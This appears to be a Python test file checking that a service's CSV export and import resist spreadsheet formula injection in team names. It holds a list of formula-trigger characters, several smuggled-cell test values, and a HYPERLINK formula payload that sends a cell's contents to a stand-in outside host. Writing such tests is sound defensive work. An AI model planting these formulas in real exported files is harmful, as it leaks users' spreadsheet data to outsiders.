"""Whatever the project writes for a spreadsheet is data there: no cell of it is worked out.

What people send reaches one such file, the commitments as CSV, and there only as the code of a team.
`ras demo` writes others, which hold what the program made up. No workbook is written.
"""

import ast
import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from uuid import UUID

import pytest
from sqlalchemy.orm import Session

from app.demonstration.caseload import caseload
from app.demonstration.files import write_csv
from app.demonstration.load import example_policy
from app.forecast import repository, service
from app.forecast.repository import Known
from app.forecast.schemas import CommitmentRow
from app.openapi import describe
from tests.app.lives import awarded
from tests.app.service import Service, add_person, good

ACTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What OWASP's page on CSV injection warns of at the beginning of a cell, and ASVS 1.2.10."""
FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A2;"here"),+1;@SUM(1)'
WRITERS = {"writer", "DictWriter", "Workbook", "to_csv", "to_excel", "write_csv"}
"""What modules that make spreadsheets call it."""


def answering(service: Service) -> dict[str, set[str]]:
    """The kinds of answer of each operation."""
    return {
        operation["operationId"]: {
            kind for answer in operation["responses"].values() for kind in answer.get("content", {})
        }
        for methods in describe(service.app)["paths"].values()
        for operation in methods.values()
    }


def test_one_operation_answers_with_a_spreadsheet(sqlite_service: Service) -> None:
    found = answering(sqlite_service)
    assert set().union(*found.values()) == {
        *("application/json", "application/problem+json", "text/html", "text/plain"),
        *("text/calendar", "text/csv", "application/x-ndjson", "application/x-pem-file"),
    }
    assert [name for name, kinds in found.items() if "text/csv" in kinds] == ["get_commitments"]


def calls_of_writers(folder: Path) -> Iterator[tuple[str, str]]:
    for path in folder.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "attr", getattr(node.func, "id", ""))
                if name in WRITERS:
                    yield str(path), name


def test_few_modules_write_csv_and_none_a_workbook() -> None:
    assert {*calls_of_writers(Path("app")), *calls_of_writers(Path("ras"))} == {
        ("app/forecast/service.py", "DictWriter"),
        ("app/demonstration/files.py", "DictWriter"),
        ("app/demonstration/load.py", "write_csv"),
        ("app/cli.py", "write_csv"),
        ("app/bulk/unpack.py", "writer"),  # into a pipe that `ras import` reads
    }


def test_only_the_code_of_a_team_is_free_in_the_commitments() -> None:
    kinds = {name: field.annotation for name, field in CommitmentRow.model_fields.items()}
    assert set(kinds) == set(service.CSV_COLUMNS)
    assert {name for name, kind in kinds.items() if kind is str} == {"team", "financial_year"}


@pytest.mark.parametrize("first", ACTS)
def test_no_team_is_called_like_a_formula(sqlite_service: Service, first: str) -> None:
    team = f"{first}1+1"
    assessor = sqlite_service.assessor
    new = {"reference": "EX-0001", "born_on": "2015-06-14", "team": team}
    assert assessor.post("/v1/people", new).status_code in {400, 422}
    known = add_person(assessor)
    etag = {"If-Match": assessor.get(f"/v1/people/{known['id']}").headers["ETag"]}
    change = {"born_on": "2015-06-14", "team": team}
    assert assessor.put(f"/v1/people/{known['id']}", change, headers=etag).status_code in {400, 422}
    file = io.StringIO()
    csv.writer(file).writerows([["reference", "born_on", "team"], ["EX-0002", "2015-06-14", f"x{team}"]])
    kind = {"Content-Type": "text/csv"}
    answer = assessor.send("POST", "/v1/imports/people", content=file.getvalue().encode(), headers=kind)
    assert answer.status_code == 422


@pytest.mark.parametrize(
    "team", [FORMULA, *(f"{first}1+1" for first in ACTS), "x;=1+1", 'x",=1+1', "x\r\n=1+1"]
)
def test_a_team_that_was_called_like_one_all_the_same_would_be_data(
    sqlite_service: Service, monkeypatch: pytest.MonkeyPatch, team: str
) -> None:
    awarded(sqlite_service)
    known = repository.known_of_everyone

    def hostile(session: Session) -> dict[UUID, Known]:
        return {person: replace(each, team=team) for person, each in known(session).items()}

    monkeypatch.setattr(repository, "known_of_everyone", hostile)
    finance = sqlite_service.acting_as("demo-finance")
    written = finance.get("/v1/commitments", params={"format": "csv"}).content.decode()
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    expected = f"'{team}" if team.startswith(ACTS) else team
    assert len(rows) == len(good(finance.get("/v1/commitments"))["rows"]) > 5
    assert {row["team"] for row in rows} == {expected}
    assert [cell for row in rows for cell in row.values() if cell.startswith(ACTS)] == []
    # Where semicolons part cells, as in much of Europe, the cell is still one.
    parted = csv.reader(io.StringIO(written.replace('","', '";"'), newline=""), delimiter=";")
    assert {tuple(row) for row in parted} == {tuple(rows[0]), *(tuple(row.values()) for row in rows)}


@pytest.mark.parametrize("seed", [2017, 1, 2])
def test_no_cell_of_the_demonstrations_files_is_a_formula(tmp_path: Path, seed: int) -> None:
    """So they are written as they are, and read back as they were (tests/app/test_imports.py)."""
    children = caseload(example_policy(), as_at=date(2026, 11, 23), seed=seed, size=111)
    for path in write_csv(tmp_path, children):
        with path.open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert len(cells) > 111
        assert [cell for cell in cells if cell.startswith(ACTS)] == []
